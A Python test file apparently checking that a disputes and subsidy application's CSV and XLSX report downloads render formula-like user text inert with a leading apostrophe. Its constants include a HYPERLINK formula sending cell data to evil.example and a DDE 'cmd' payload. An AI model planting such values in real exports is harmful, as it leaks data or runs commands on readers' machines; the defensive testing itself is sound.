"""User text in the CSV/XLSX downloads is inert: a unit, street, director or order title
that starts like a formula is written as text with a leading apostrophe (OWASP's rule
against CSV injection), never as a live formula."""

import csv
import io

import pytest
import time_machine
from openpyxl import load_workbook
from rest_framework.authtoken.models import Token

from disputes.models import Order
from tests.supervision.conftest import AS_OF

NOV = "?month=2026-11"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"详情")'
PLUS, MINUS, AT = "+1+2", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"
TAB, CR = "\t=1+1", "\r=1+1"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(built_month):
    """Names and titles an attacker could type, spread over everything that is exported."""
    w = built_month.world
    built_month.sg_committee.name = HYPERLINK
    built_month.sg_committee.save(update_fields=["name"])
    built_month.fl_committee.name = PLUS
    built_month.fl_committee.save(update_fields=["name"])
    w.hb.name = TAB
    w.hb.save(update_fields=["name"])
    built_month.sg_head.first_name = AT
    built_month.sg_head.save(update_fields=["first_name"])
    Order.objects.filter(pk=built_month.orders["R"].pk).update(title=MINUS)
    Order.objects.filter(pk=built_month.orders["C"].pk).update(title=CR)
    with time_machine.travel(AS_OF, tick=False):
        yield built_month


def csv_cells(response) -> list[str]:
    assert response.status_code == 200
    body = response.content.decode("utf-8").removeprefix("\ufeff")
    return [value for row in csv.reader(io.StringIO(body)) for value in row]


def xlsx_cells(response) -> list[str]:
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(response.content))
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a live formula"
    text = [c for c in cells if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in text)
    return [c.value for c in text]


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_inert(cells: list[str], payloads: list[str]) -> None:
    # A number the report computed (a score change of -24.8) is a number, not text.
    live = [v for v in cells if v.startswith(FORMULA_STARTS) and not is_number(v)]
    assert not live, live
    for payload in payloads:
        # (XML reads a stored carriage return back as a line feed.)
        assert {"'" + payload, "'" + payload.replace("\r", "\n")} & set(cells), payload


def test_the_monthly_report_downloads(hostile, client):
    client.force_login(hostile.world.supervisor)
    names = [HYPERLINK, TAB]  # a unit and a street
    url = "/reports/monthly/" + NOV
    assert_inert(csv_cells(client.get(url + "&format=csv")), names)
    assert_inert(xlsx_cells(client.get(url + "&format=xlsx")), names)


def test_the_subsidy_statement_downloads(hostile, client):
    client.force_login(hostile.world.supervisor)
    url = "/reports/subsidy/" + NOV
    assert_inert(csv_cells(client.get(url + "&format=csv")), [HYPERLINK, PLUS, AT])
    # The XLSX also lists every paid case with its title.
    assert_inert(xlsx_cells(client.get(url + "&format=xlsx")), [HYPERLINK, PLUS, AT, MINUS, CR])


def test_the_api_downloads(hostile, client):
    token = Token.objects.create(user=hostile.world.supervisor)
    auth = {"HTTP_AUTHORIZATION": f"Token {token.key}"}
    url = "/api/v1/reports/monthly/" + NOV
    names = [HYPERLINK, TAB]
    assert_inert(csv_cells(client.get(url + "&format=csv", **auth)), names)
    assert_inert(xlsx_cells(client.get(url + "&format=xlsx", **auth)), names)


def test_numbers_stay_numbers(hostile, client):
    """Only text is touched: counts and amounts are still numbers."""
    client.force_login(hostile.world.supervisor)
    wb = load_workbook(io.BytesIO(client.get("/reports/subsidy/" + NOV + "&format=xlsx").content))
    totals = [r for r in wb["补贴汇总"].iter_rows(min_row=2, values_only=True) if r[1] == "合计"]
    assert totals == [("2026-11", "合计", None, None, None, 5, 1100)]
